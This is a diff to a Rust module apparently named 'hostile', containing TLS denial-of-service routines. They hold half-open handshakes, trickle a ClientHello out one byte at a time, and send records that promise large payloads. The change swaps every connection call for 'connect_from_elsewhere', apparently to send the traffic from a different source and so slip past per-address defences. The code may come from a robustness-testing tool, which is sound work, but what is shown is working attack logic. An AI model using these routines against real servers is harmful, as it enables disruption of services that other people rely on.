@@ -6,7 +6,7 @@ use std::sync::Arc;
 
 use tokio_rustls::rustls::{ClientConfig, ClientConnection};
 
-use super::connect;
+use super::connect_from_elsewhere;
 use crate::hostile::target::Target;
 use crate::hostile::tls::{connection, hello};
 
@@ -24,7 +24,7 @@ pub(super) fn half_open(target: &Target) {
     let hello = hello(config(target));
     let mut held = Vec::new();
     while target.runs() {
-        let Some(mut stream) = connect(target.port()) else { continue };
+        let Some(mut stream) = connect_from_elsewhere(target.port()) else { continue };
         let _ = stream.write_all(&hello);
         held.push(stream);
         target.did(1);
@@ -36,7 +36,7 @@ pub(super) fn half_open(target: &Target) {
 
 /// A connection after its handshake.
 fn handshake(target: &Target) -> Option<(ClientConnection, TcpStream)> {
-    let (mut tls, mut stream) = (connection(config(target)), connect(target.port())?);
+    let (mut tls, mut stream) = (connection(config(target)), connect_from_elsewhere(target.port())?);
     stream.set_read_timeout(Some(std::time::Duration::from_secs(2))).ok()?;
     while tls.is_handshaking() {
         tls.complete_io(&mut stream).ok()?;
@@ -56,7 +56,7 @@ pub(super) fn pieces(target: &Target) {
     let hello = hello(config(target));
     let mut buffer = [0; 4_096];
     while target.runs() {
-        let Some(mut stream) = connect(target.port()) else { continue };
+        let Some(mut stream) = connect_from_elsewhere(target.port()) else { continue };
         let _ = stream.set_nodelay(true);
         for byte in hello.chunks(1) {
             if stream.write_all(byte).is_err() || !target.runs() {
@@ -73,7 +73,7 @@ pub(super) fn promises(target: &Target) {
     let record = [PROMISE, &[0; (16 << 10) - 4]].concat();
     let more = [&[0x16, 3, 1, 0x40, 0][..], &[0; 16 << 10]].concat();
     while target.runs() {
-        let Some(mut stream) = connect(target.port()) else { continue };
+        let Some(mut stream) = connect_from_elsewhere(target.port()) else { continue };
         let mut sent = stream.write_all(&record);
         while sent.is_ok() && target.runs() {
             target.did(1);
